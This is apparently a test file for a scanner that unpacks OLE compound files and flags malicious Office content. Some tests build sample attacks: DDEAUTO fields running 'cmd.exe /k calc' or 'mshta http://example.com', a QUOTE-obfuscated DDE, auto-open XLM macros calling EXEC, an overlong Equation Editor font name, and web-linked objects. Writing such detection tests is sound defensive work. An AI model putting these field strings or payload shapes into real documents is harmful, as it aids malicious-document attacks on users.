import type { Opened } from '../../scanners/embedded/opener';
import { CompoundFile } from '../../scanners/embedded/ole/cfb';
import { openCompound } from '../../scanners/embedded/ole/compound';
import { createUnpacker } from '../../scanners/embedded/unpack';
import { compound, long, ole10Native, pptObject, short, type OleOptions } from './ole-build';
import { biff, doc, macroCall, macroSheet, workbook, xls } from './ole-documents';

const unpacker = createUnpacker();
const BUDGET = { totalBytes: 10_000_000, memberBytes: 5_000_000, members: 1_000 };

function open(data: Buffer, budget = BUDGET): Opened {
  const type = { mime: 'application/x-ole-storage', container: 'compound' as const };
  return openCompound(data, { name: 'a.doc', type, passwords: [], budget, unpacker });
}
const rules = ({ findings }: Opened): string[] => (findings ?? []).map(({ rule }) => rule);
const member = ({ members }: Opened, name: string): string | undefined => {
  const found = members.find((one) => one.name === name);
  return found && Buffer.from(found.data).toString('latin1');
};

describe('streams of a compound file', () => {
  const big = Buffer.from(Array.from({ length: 30_000 }, (_unused, index) => index % 251));
  test.each<[string, OleOptions]>([
    ['version 3', {}],
    ['version 4', { version: 4 }],
    ['with its sectors in any order', { scattered: true }],
  ])('%s: large and small ones come out whole', (_title, options) => {
    const streams = [
      { path: 'Deep/Inner/large', data: big },
      { path: 'small', data: Buffer.from('small stream') },
    ];
    const opened = open(compound(streams, options));
    expect(member(opened, 'Deep/Inner/large')).toBe(big.toString('latin1'));
    expect(member(opened, 'small')).toBe('small stream');
    expect([...opened.gaps]).toEqual([]);
  });

  test('one that no storage leads to comes out too', () => {
    const opened = open(compound([{ path: 'hidden', data: big }], { orphans: ['hidden'] }));
    expect(member(opened, 'hidden')).toBe(big.toString('latin1'));
  });

  test('one that was cut off is a gap, and gives what is there', () => {
    const whole = compound([{ path: 'large', data: big }]);
    // The allocation table is the last sector of what the builder writes: it is moved in front of the cut.
    const cut = Buffer.concat([whole.subarray(0, 512 + 512 * 20), whole.subarray(-512)]);
    cut.writeUInt32LE(20, 0x4c);
    const opened = open(cut);
    expect([...opened.gaps]).toContain('malformed');
  });

  test('a chain that goes in circles ends, and is a gap', () => {
    const whole = compound([{ path: 'large', data: big }]);
    whole.writeUInt32LE(0, whole.length - 512 + 4);
    const { data, whole: complete } = new CompoundFile(whole).read(streamOf(whole), 1e9);
    expect(data.length).toBeLessThanOrEqual(whole.length);
    expect(complete).toBe(data.length === big.length);
  });

  test('a size beyond the file is a gap and allocates no more than the file has', () => {
    const whole = compound([{ path: 'large', data: big }]);
    const at = whole.indexOf(Buffer.from('large', 'utf16le'));
    whole.writeUInt32LE(0xffff_fff0, at + 0x78);
    const opened = open(whole, { ...BUDGET, totalBytes: 5e9, memberBytes: 5e9 });
    expect([...opened.gaps]).toEqual(['malformed']);
  });

  test('a directory whose entries lead to one another ends', () => {
    const whole = compound([
      { path: 'a', data: Buffer.from('first') },
      { path: 'b', data: Buffer.from('second') },
    ]);
    const at = whole.indexOf(Buffer.from('b\0\0\0', 'latin1'));
    whole.writeUInt32LE(1, at + 0x48);
    const opened = open(whole);
    expect(member(opened, 'a')).toBe('first');
    expect(member(opened, 'b')).toBe('second');
    expect([...opened.gaps]).toContain('malformed');
  });

  test('more than the budget is a gap', () => {
    const whole = compound([{ path: 'large', data: big }]);
    expect([...open(whole, { ...BUDGET, memberBytes: 10_000 }).gaps]).toContain('limit_reached');
    expect([...open(whole, { ...BUDGET, members: 0 }).gaps]).toContain('limit_reached');
  });

  test('bytes that are no compound file are a gap', () => {
    expect([...open(Buffer.from('d0cf11e0a1b11ae1', 'hex')).gaps]).toEqual(['malformed']);
  });

  test('names of installer tables are written as people write them', () => {
    const name = String.fromCharCode(0x4840, 0x3800 + 10 + (11 << 6), 0x4800 + 62);
    expect(member(open(compound([{ path: name, data: Buffer.from('rows') }])), '!AB.')).toBe('rows');
  });

  test('what stands behind the last sector is a part', () => {
    const opened = open(Buffer.concat([doc('Hello'), Buffer.from('more '.repeat(50))]));
    expect(member(opened, 'behind-the-end')).toBe('more '.repeat(50));
  });
});

function streamOf(data: Buffer): CompoundFile['entries'][number] {
  const [entry] = new CompoundFile(data).entries;
  if (!entry) throw new Error('the file has no entry');
  return entry;
}

describe('embedded objects', () => {
  const packed = (name: string, data: Buffer): Opened =>
    open(doc('', [{ path: 'ObjectPool/_1/\x01Ole10Native', data: ole10Native(name, data) }]));

  test('a packaged file keeps its name', () => {
    const opened = packed('note.txt', Buffer.from('a note'));
    expect(member(opened, 'note.txt')).toBe('a note');
    expect(rules(opened)).toEqual(['Ole_Embedded_File']);
  });

  test('a packaged script or program is malicious by its name, and a program by its first bytes', () => {
    expect(rules(packed('bill.pdf.vbs', Buffer.from('x')))).toContain('Ole_Embedded_Program');
    expect(rules(packed('bill.dat', Buffer.from('MZ\x90')))).toContain('Ole_Embedded_Program');
  });

  test('an object linked to the internet is malicious, one linked to a share is shown', () => {
    const link = (clsid: string, target: Buffer): Opened => {
      const data = Buffer.concat([long(1), Buffer.alloc(16), Buffer.from(clsid, 'hex'), target]);
      return open(doc('', [{ path: 'ObjectPool/_1/\x01Ole', data }]));
    };
    const url = Buffer.from('http://example.com/a.hta\0', 'utf16le');
    const web = link('e0c9ea79f9bace118c8200aa004ba90b', Buffer.concat([long(url.length), url]));
    expect(rules(web)).toEqual(['Ole_Linked_To_Web']);
    expect(web.links?.map((one) => one.url)).toEqual(['http://example.com/a.hta']);
    const path = Buffer.from('\\\\server\\share\\book.xls\0');
    const share = link('0303000000000000c000000000000046', Buffer.concat([short(0), long(path.length), path]));
    expect(rules(share)).toEqual(['Ole_Linked_To_Share']);
  });

  test('classes that run scripts are named', () => {
    const classes = { 'ObjectPool/_1': 'c32ab2eac130cf11a7eb0000c05bae0b' };
    const opened = open(doc('', [{ path: 'ObjectPool/_1/CONTENTS', data: Buffer.from('x') }], { classes }));
    expect(rules(opened)).toContain('Ole_Dangerous_Class');
  });

  test('an equation with an overlong font name is malicious, an ordinary one is shown', () => {
    const equation = (...records: Buffer[]): Opened => {
      const mtef = Buffer.concat([Buffer.from([3, 1, 1, 3, 10]), ...records]);
      const head = Buffer.concat([short(28), long(0x20000), short(0xc0de), long(mtef.length), Buffer.alloc(16)]);
      return open(doc('', [{ path: 'ObjectPool/_1/Equation Native', data: Buffer.concat([head, mtef]) }]));
    };
    const plain = Buffer.from([10, 1, 2, 0x83, 0x78, 0, 0, 0]);
    expect(rules(equation(plain))).toEqual(['Ole_Equation_Plain']);
    expect(rules(equation(Buffer.from([10, 1, 8, 0x5a, 0x5a]), Buffer.alloc(60, 0x41)))).toEqual([
      'Ole_Equation_Exploit',
    ]);
  });

  test('objects inside a presentation are inflated', () => {
    const inner = compound([{ path: 'CONTENTS', data: Buffer.from('inner') }]);
    const opened = open(compound([{ path: 'PowerPoint Document', data: pptObject(inner) }]));
    expect(member(opened, 'object-1.ole')).toBe(inner.toString('latin1'));
  });
});

describe('workbooks', () => {
  test.each<[string, Parameters<typeof macroSheet>[0], string[]]>([
    ['shown, harmless', { formulas: [macroCall(118, 'Hi')] }, ['Xlm_Macro_Sheet']],
    ['hidden, harmless', { hidden: 1, formulas: [macroCall(118, 'Hi')] }, ['Xlm_Hidden_Macro_Sheet']],
    [
      'starting a program when opened',
      { autoOpen: true, formulas: [macroCall(110, 'calc')] },
      ['Xlm_Macro_Sheet', 'Xlm_Runs_On_Open_And_Starts_Programs'],
    ],
    [
      'hidden, starting a program',
      { hidden: 2, formulas: [macroCall(110, 'calc')] },
      ['Xlm_Hidden_Macro_Sheet', 'Xlm_Hidden_And_Starts_Programs'],
    ],
  ])('a macro sheet %s', (_title, sheet, expected) => {
    expect(rules(open(xls(macroSheet(sheet))))).toEqual(expected);
  });

  test('text that macros put together is a part', () => {
    const char = (code: number): Buffer =>
      Buffer.concat([Buffer.from([0x1e]), short(code), Buffer.from([0x41]), short(111)]);
    const word = Buffer.concat([
      char(99),
      char(109),
      Buffer.from([8]),
      char(100),
      Buffer.from([8, 0x42, 1]),
      short(110),
    ]);
    const opened = open(xls(macroSheet({ formulas: [word] })));
    expect(member(opened, 'Excel 4 macros.txt')).toContain('EXEC(cmd)');
  });

  test('links to programs through DDE are malicious where they start a command', () => {
    const dde = (text: string): string[] => {
      const book = biff(0x01ae, short(1), short(text.length), Buffer.from([0]), Buffer.from(text, 'latin1'));
      return rules(open(xls(workbook(book))));
    };
    expect(dde("cmd\x03 '/c calc'!A1")).toEqual(['Excel_Dde_Command']);
    expect(dde('quotes\x03prices')).toEqual(['Excel_Dde_Link']);
    expect(dde('\x01\x01C\x03folder\x03book.xls')).toEqual([]);
  });
});

describe('fields of Word', () => {
  test.each<[string, string, string[]]>([
    [
      'DDEAUTO that starts a command',
      '\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x14x\x15',
      ['Word_Dde_Command'],
    ],
    ['DDE to a program of the house', '\x13 DDE prices today \x14x\x15', ['Word_Dde_Field']],
    ['DDE spelled by numbers', '\x13\x13 QUOTE 68 68 69 \x14?\x15 "cmd /c calc" \x14x\x15', ['Word_Dde_Command']],
    ['DDE without an end', '\x13DDEAUTO mshta http://example.com', ['Word_Dde_Command']],
    ['the word in the text', 'DDEAUTO cmd is a field of Word', []],
    ['a date', '\x13 DATE \\@ "d.M.yyyy" \x141.1.2026\x15', []],
  ])('%s', (_title, text, expected) => {
    expect(rules(open(doc(text)))).toEqual(expected);
  });

  test('addresses behind links are kept', () => {
    const opened = open(doc('\x13 HYPERLINK "https://example.com/order" \x14our shop\x15'));
    expect(opened.links).toEqual([{ url: 'https://example.com/order', place: [] }]);
  });
});
